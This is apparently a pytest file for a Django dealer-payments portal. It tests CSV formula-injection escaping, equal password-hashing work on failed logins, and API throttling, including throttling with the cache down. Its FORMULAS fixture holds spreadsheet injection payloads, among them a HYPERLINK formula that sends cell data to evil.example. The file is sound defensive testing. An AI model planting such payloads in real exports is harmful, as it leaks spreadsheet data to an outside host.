"""Edges an attacker pokes at: formulas in exported CSV cells, login timing, throttles on failed and anonymous API
requests (also with the cache down)."""
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth.hashers import MD5PasswordHasher
from django.urls import reverse

from dealers.testing import PASSWORD, DealerFactory, DealerUserFactory, StaffFactory
from payments.services import statements
from payments.testing import InvoiceFactory, PaymentFactory
from portal.csv import safe_cell

D = Decimal
DAY = datetime.date(2026, 3, 1)
FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+90 555 1234", "-2+3", "@SUM(1+1)",
            "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["EFT 9", "", "2026-03-01", "Ödeme – Şubat", D("-12.50"), D("7.00"), 3, None])
def test_harmless_cells_and_numbers_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.fixture
def hostile_ledger(db):
    dealer = DealerFactory(code="EVIL01")
    InvoiceFactory(dealer=dealer, number="INV-E", total_gross=D("100.00"), issue_date=DAY)
    for n, text in enumerate(FORMULAS):
        PaymentFactory(dealer=dealer, number=f"PAY-E{n}", amount=D("150.00"), received_on=DAY, reference=text)
    return dealer


def test_the_accounting_export_neutralises_payment_references_and_keeps_amounts_numbers(hostile_ledger):
    text = statements.accounting_export_csv(date_from=DAY, date_to=DAY)
    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(text))}
    for n, formula in enumerate(FORMULAS):
        assert rows[f"PAY-E{n}"]["reference"] == "'" + formula
        assert rows[f"PAY-E{n}"]["credit"] == "150.00"
    assert rows["INV-E"]["debit"] == "100.00"


def test_a_reference_posted_through_the_api_reaches_the_staff_export_as_text(db, client):
    from django.utils import timezone
    from rest_framework.test import APIClient

    from payments.testing import FinanceStaffFactory
    from portal.api_tokens import create_api_token

    dealer = DealerFactory(code="EVIL02")
    key = create_api_token(user=FinanceStaffFactory(), name="Accounting", scopes=["payments:write"], actor=None)[1]
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    today = timezone.localdate().isoformat()
    for n, text in enumerate(FORMULAS[:4]):
        response = api.post("/api/v1/payments/", {"dealer": dealer.code, "amount": "10.00", "kind": "wire",
                                                   "received_on": today, "reference": text},
                            format="json", HTTP_IDEMPOTENCY_KEY=f"edge-{n}")
        assert response.status_code == 201, response.content
    client.force_login(FinanceStaffFactory())
    export = client.get("/payments/export.csv", {"date_from": today, "date_to": today})
    assert export.status_code == 200
    references = [row["reference"] for row in csv.DictReader(io.StringIO(export.content.decode()))
                  if row["entry"] == "payment"]
    assert sorted(references) == sorted("'" + text for text in FORMULAS[:4])


def test_the_statement_csv_neutralises_descriptions_and_keeps_a_negative_balance_a_number(hostile_ledger):
    found = statements.build_statement(dealer=hostile_ledger, date_from=DAY, date_to=DAY)
    rows = list(csv.reader(io.StringIO(statements.statement_csv(found))))
    descriptions = [row[3] for row in rows[2:-1] if row[1] == "Payment"]
    assert descriptions and all(not d.startswith(("=", "+", "-", "@", "\t", "\r")) for d in descriptions)
    assert rows[-1][-1] == str(found.closing) and found.closing < 0  # -800.00: a number, no quote


# --- login: the same work on every failure path -------------------------------------------------------------------

class CountingHasher(MD5PasswordHasher):
    """The test suite's hasher, counting how often a password is hashed (the work a login's timing shows)."""

    calls = 0

    def encode(self, password, salt):
        CountingHasher.calls += 1
        return super().encode(password, salt)


@pytest.fixture
def counting_hasher(settings):
    settings.PASSWORD_HASHERS = ["portal.tests.test_edges.CountingHasher"]
    CountingHasher.calls = 0
    return CountingHasher


def hashes_for(client, hasher, **data):
    hasher.calls = 0
    response = client.post(reverse("account_login"), {"dealer_code": "", **data})
    assert response.status_code == 200 and "is not correct" in response.content.decode()  # refused, same words
    return hasher.calls


def test_every_failed_login_hashes_the_password_exactly_once(db, client, counting_hasher):
    dealer = DealerFactory(code="TIME01")
    user = DealerUserFactory(dealer=dealer, email="buyer@time.example.com")
    StaffFactory(email="staff@time.example.com")
    counting_hasher.calls = 0
    attempts = {
        "right password, wrong dealer code": {"login": user.email, "password": PASSWORD, "dealer_code": "WRONG1"},
        "right password, no dealer code": {"login": user.email, "password": PASSWORD},
        "wrong password, right dealer code": {"login": user.email, "password": "not-it-at-all", "dealer_code": "TIME01"},
        "unknown e-mail": {"login": "nobody@time.example.com", "password": PASSWORD, "dealer_code": "TIME01"},
        "staff with a dealer code": {"login": "staff@time.example.com", "password": PASSWORD, "dealer_code": "TIME01"},
    }
    counts = {name: hashes_for(client, counting_hasher, **data) for name, data in attempts.items()}
    assert set(counts.values()) == {1}, counts


# --- API throttles: failed and anonymous requests, and a cache that is down ---------------------------------------

@pytest.fixture
def auth_failures_limited(settings):
    from django.core.cache import cache

    cache.clear()
    rest = dict(settings.REST_FRAMEWORK)
    rest["DEFAULT_THROTTLE_RATES"] = {**rest["DEFAULT_THROTTLE_RATES"], "auth_failure": "5/min"}
    settings.REST_FRAMEWORK = rest
    yield
    cache.clear()


def api_client(key=None, **extra):
    from rest_framework.test import APIClient

    client = APIClient(**extra)
    if key:
        client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return client


def test_guessing_tokens_is_throttled_after_the_limit_even_with_a_made_up_forwarded_for(db, auth_failures_limited):
    statuses = []
    for n in range(40):
        client = api_client(f"guess{n:03d}.{'x' * 40}", HTTP_X_FORWARDED_FOR=f"10.0.0.{n}")
        statuses.append(client.get("/api/v1/me/company/").status_code)
    assert statuses[:5] == [401] * 5
    assert set(statuses[5:]) == {429}
    response = api_client("another.guess" + "y" * 30).get("/api/v1/me/company/")
    assert response.status_code == 429 and response.json()["code"] == "throttled" and "Retry-After" in response


def test_a_right_token_is_not_even_checked_from_an_address_that_keeps_failing(db, auth_failures_limited):
    from portal.api_tokens import create_api_token

    owner = DealerUserFactory(dealer=DealerFactory(), role="owner")
    key = create_api_token(name="ERP", user=owner, scopes=["account"], actor=StaffFactory())[1]
    assert api_client(key).get("/api/v1/me/company/").status_code == 200
    for _n in range(6):
        api_client("wrong.key" + "z" * 30).get("/api/v1/me/company/")
    assert api_client(key).get("/api/v1/me/company/").status_code == 429  # a lucky guess would not be told either


def test_anonymous_requests_are_throttled_after_the_limit(db, auth_failures_limited):
    statuses = [api_client().get("/api/v1/me/company/").status_code for _n in range(12)]
    assert statuses[:5] == [401] * 5 and set(statuses[5:]) == {429}


class BrokenCache:
    def __getattr__(self, name):
        def fail(*args, **kwargs):
            raise ConnectionError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")
        return fail


def test_throttles_let_requests_through_when_their_cache_is_down(db, auth_failures_limited, monkeypatch, caplog):
    from rest_framework.throttling import SimpleRateThrottle

    from portal.api_tokens import create_api_token

    monkeypatch.setattr(SimpleRateThrottle, "cache", BrokenCache())
    owner = DealerUserFactory(dealer=DealerFactory(), role="owner")
    key = create_api_token(name="ERP", user=owner, scopes=["account"], actor=StaffFactory())[1]
    assert api_client(key).get("/api/v1/me/company/").status_code == 200
    assert api_client("wrong.key" + "z" * 30).get("/api/v1/me/company/").status_code == 401
    assert api_client().get("/api/v1/me/company/").status_code == 401
    assert api_client().get("/api/schema/").status_code == 200  # anonymous, reaches the anon throttle
    assert "throttle" in caplog.text and "ConnectionError" in caplog.text
